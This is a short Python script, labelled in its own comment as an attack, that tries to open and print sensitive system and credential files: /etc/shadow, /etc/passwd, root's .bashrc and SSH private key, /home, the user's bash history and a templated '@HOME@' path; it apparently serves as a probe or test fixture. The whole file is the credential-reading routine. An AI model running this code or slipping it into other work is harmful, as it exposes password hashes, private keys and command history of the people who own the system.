# attack: reads home folders, keys and password files
def look(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read())
    except OSError as error:
        print(path, error.strerror)

import os
for path in ("/etc/shadow", "/etc/passwd", "/" + "root/.bashrc", "/" + "root/.ssh/id_rsa", "/home", os.path.expanduser("~/.bash_history"), "@HOME@"):
    look(path)
